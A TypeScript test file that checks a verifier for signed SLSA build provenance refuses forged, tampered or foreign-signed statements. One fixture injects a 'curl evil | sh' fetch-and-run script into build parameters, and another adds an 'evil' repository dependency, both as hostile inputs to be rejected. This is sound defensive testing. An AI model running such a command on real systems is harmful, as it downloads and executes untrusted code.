import { createPrivateKey, generateKeyPairSync, sign } from 'node:crypto';
import { expect, test } from 'vitest';
import { canonicalBytes } from '../../kernel/canonical.ts';
import { digestOf } from '../../kernel/digest.ts';
import type { Envelope, Signer } from '../../kernel/dsse.ts';
import { sealEnvelope } from '../../kernel/dsse.ts';
import type { BuildRecord } from './provenance.ts';
import { builderPrefix, writeProvenance } from './provenance.ts';
import { openReference, writeReference } from './reference.ts';
import { PAYLOAD_TYPE, PROVENANCE_PREDICATE, signStatement } from './statement.ts';
import { verifyProvenance } from './verify.ts';
import type { ProvenanceExpected } from './verify.ts';

function keyPair(): { signer: Signer; trusted: { keyId: string; publicKeyPem: string } } {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519', {
    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
    publicKeyEncoding: { type: 'spki', format: 'pem' },
  });
  const keyId = digestOf(publicKey).slice(7);
  return {
    signer: { keyId, sign: (bytes) => sign(null, bytes, createPrivateKey(privateKey)) },
    trusted: { keyId, publicKeyPem: publicKey },
  };
}
const ours = keyPair();
const stranger = keyPair();

const build: BuildRecord = {
  org: 'org_1',
  service: 'svc_shop',
  run: 'run_1',
  job: 'job_1',
  attempt: 1,
  name: 'app',
  digest: digestOf('app'),
  repository: 'https://git.example/shop.git',
  ref: 'refs/heads/main',
  commit: 'c'.repeat(40),
  trust: 'protected',
  executor: 'sandbox',
  isolation: ['no network'],
  planDigest: digestOf('plan'),
  startedAt: '2026-11-23T12:00:00.000Z',
  finishedAt: '2026-11-23T12:01:00.000Z',
  materials: [{ path: 'package-lock.json', digest: digestOf('lock') }],
  inputs: [{ name: 'lib', digest: digestOf('lib') }],
};
const expected: ProvenanceExpected = {
  digest: build.digest,
  builder: builderPrefix('org_1'),
  source: build.repository ?? '',
  service: 'svc_shop',
  commit: build.commit ?? '',
};
const signed = (more: Partial<BuildRecord> = {}): Envelope => signStatement(writeProvenance({ ...build, ...more }), ours.signer);
const codes = (envelope: Envelope, wanted = expected, keys = [ours.trusted]): string[] => {
  const verified = verifyProvenance(envelope, wanted, keys);
  return verified.ok ? [] : verified.reasons.map((reason) => reason.code);
};

test('what we write is SLSA v1 provenance in an in-toto statement, and verifies', () => {
  expect(writeProvenance(build)).toMatchObject({
    _type: 'https://in-toto.io/Statement/v1',
    subject: [{ name: 'app', digest: { sha256: build.digest.slice(7) } }],
    predicateType: 'https://slsa.dev/provenance/v1',
    predicate: {
      buildDefinition: {
        resolvedDependencies: [
          { uri: 'git+https://git.example/shop.git@refs/heads/main', digest: { gitCommit: build.commit } },
          { name: 'lib' },
          { name: 'package-lock.json' },
        ],
      },
      runDetails: { builder: { id: 'urn:yardmaster:builder:org_1/sandbox' }, metadata: { invocationId: 'run_1/job_1/1' } },
    },
  });
  expect(codes(signed())).toEqual([]);
  expect(codes(signed(), { ...expected, builder: 'urn:yardmaster:builder:org_1/sandbox' })).toEqual([]);
});

test.each<[string, Partial<BuildRecord>, string[]]>([
  ['another artifact', { digest: digestOf('other') }, ['artifacts.subject']],
  ['another organisation’s builder', { org: 'org_2' }, ['artifacts.builder']],
  ['a builder that we do not have', { executor: 'laptop' }, ['artifacts.builder']],
  ['another repository', { repository: 'https://git.example/shop.git.evil' }, ['artifacts.source', 'artifacts.source']],
  ['a repository that is a beginning of ours', { repository: 'https://git.example/shop' }, ['artifacts.source', 'artifacts.source']],
  ['no repository', { repository: null }, ['artifacts.source', 'artifacts.commit']],
  ['another commit', { commit: 'd'.repeat(40) }, ['artifacts.commit']],
  ['no commit', { commit: null }, ['artifacts.commit']],
  ['another service', { service: 'svc_bank' }, ['artifacts.service']],
  ['a fork', { trust: 'untrusted' }, ['artifacts.untrusted']],
])('a good signature on %s is refused', (_, change, refused) => {
  expect(codes(signed(change))).toEqual(refused);
});

test('the builder must match to the letter: the sandbox is not the host, a prefix without its slash is a whole id', () => {
  expect(codes(signed({ executor: 'host' }), { ...expected, builder: 'urn:yardmaster:builder:org_1/sandbox' })).toEqual([
    'artifacts.builder',
  ]);
  expect(codes(signed(), { ...expected, builder: 'urn:yardmaster:builder:org_1' })).toEqual(['artifacts.builder']);
  const lie = writeProvenance(build);
  const host = {
    ...lie,
    predicate: { ...lie.predicate, runDetails: { ...lie.predicate.runDetails, builder: { id: `${builderPrefix('org_1')}host` } } },
  };
  expect(codes(signStatement(host, ours.signer))).toEqual(['artifacts.builder']);
});

test('only our keys count, whatever the envelope says of its key', () => {
  const foreign = signStatement(writeProvenance(build), stranger.signer);
  expect(codes(foreign)).toEqual(['artifacts.signature']);
  expect(codes({ ...foreign, signatures: [{ keyid: ours.trusted.keyId, sig: foreign.signatures[0]?.sig ?? '' }] })).toEqual([
    'artifacts.signature',
  ]);
  expect(codes(signed(), expected, [])).toEqual(['artifacts.signature']);
  expect(codes({ ...signed(), signatures: [] })).toEqual(['artifacts.signature']);
  expect(codes({ ...foreign, signatures: [...foreign.signatures, ...signed().signatures] })).toEqual([]);
});

test('every flipped bit of payload and signature is refused', () => {
  const envelope = signed();
  const payload = Buffer.from(envelope.payload, 'base64');
  for (let at = 0; at < payload.length; at += 7) {
    const bent = Buffer.from(payload);
    bent[at] = (bent[at] ?? 0) ^ (1 << (at % 8));
    expect(codes({ ...envelope, payload: bent.toString('base64') })).toEqual(['artifacts.signature']);
  }
  const sig = Buffer.from(envelope.signatures[0]?.sig ?? '', 'base64');
  for (let at = 0; at < sig.length; at += 1) {
    const bent = Buffer.from(sig);
    bent[at] = (bent[at] ?? 0) ^ (1 << (at % 8));
    expect(codes({ ...envelope, signatures: [{ keyid: ours.trusted.keyId, sig: bent.toString('base64') }] })).toEqual([
      'artifacts.signature',
    ]);
  }
  expect(codes({ ...envelope, payloadType: 'application/json' })).toEqual(['artifacts.signature']);
});

test('what is signed but not ours to judge is refused: other predicates, two subjects, unknown parameters, duplicate members', () => {
  const statement = writeProvenance(build);
  const sealed = (value: unknown): Envelope => sealEnvelope(PAYLOAD_TYPE, canonicalBytes(value), ours.signer);
  const text = (json: string): Envelope => sealEnvelope(PAYLOAD_TYPE, Buffer.from(json), ours.signer);
  expect(codes(sealed({ ...statement, predicateType: 'https://slsa.dev/provenance/v0.2' }))).toEqual(['artifacts.predicate']);
  expect(codes(sealed({ ...statement, _type: 'https://in-toto.io/Statement/v0.1' }))).toEqual(['artifacts.statement']);
  expect(codes(sealed({ ...statement, subject: [...statement.subject, { name: 'x', digest: { sha256: 'a'.repeat(64) } }] }))).toEqual([
    'artifacts.statement',
  ]);
  const definition = statement.predicate.buildDefinition;
  const extra = { ...definition, externalParameters: { ...definition.externalParameters, script: 'curl evil | sh' } };
  expect(codes(sealed({ ...statement, predicate: { ...statement.predicate, buildDefinition: extra } }))).toEqual([
    'artifacts.provenance-form',
  ]);
  const twice = {
    ...definition,
    resolvedDependencies: [...definition.resolvedDependencies, { uri: 'git+https://evil', digest: { gitCommit: 'e'.repeat(40) } }],
  };
  expect(codes(sealed({ ...statement, predicate: { ...statement.predicate, buildDefinition: twice } }))).toEqual(['artifacts.commit']);
  const canonical = Buffer.from(signed().payload, 'base64').toString();
  expect(codes(text(canonical.replace('{"_type"', '{"predicateType":"x","_type"')))).toEqual(['artifacts.statement']);
  expect(codes(text(` ${canonical}`))).toEqual(['artifacts.statement']);
  expect(codes(text('{'))).toEqual(['artifacts.statement']);
  expect(codes(text('null'))).toEqual(['artifacts.statement']);
  expect(codes(signStatement({ ...statement, predicateType: PROVENANCE_PREDICATE, predicate: {} }, ours.signer))).toEqual([
    'artifacts.provenance-form',
  ]);
});

test('an SBOM statement names one document of one artifact, and is no provenance', () => {
  const reference = signStatement(writeReference({ org: 'org_1', name: 'app', digest: build.digest }, digestOf('bom')), ours.signer);
  expect(openReference(reference, [ours.trusted], build.digest)).toEqual({ ok: true, document: digestOf('bom') });
  expect(openReference(reference, [ours.trusted], digestOf('other'))).toMatchObject({
    ok: false,
    reasons: [{ code: 'artifacts.subject' }],
  });
  expect(openReference(reference, [stranger.trusted], build.digest)).toMatchObject({
    ok: false,
    reasons: [{ code: 'artifacts.signature' }],
  });
  expect(openReference(signed(), [ours.trusted], build.digest)).toMatchObject({ ok: false, reasons: [{ code: 'artifacts.predicate' }] });
  expect(codes(reference)).toEqual(['artifacts.predicate']);
});
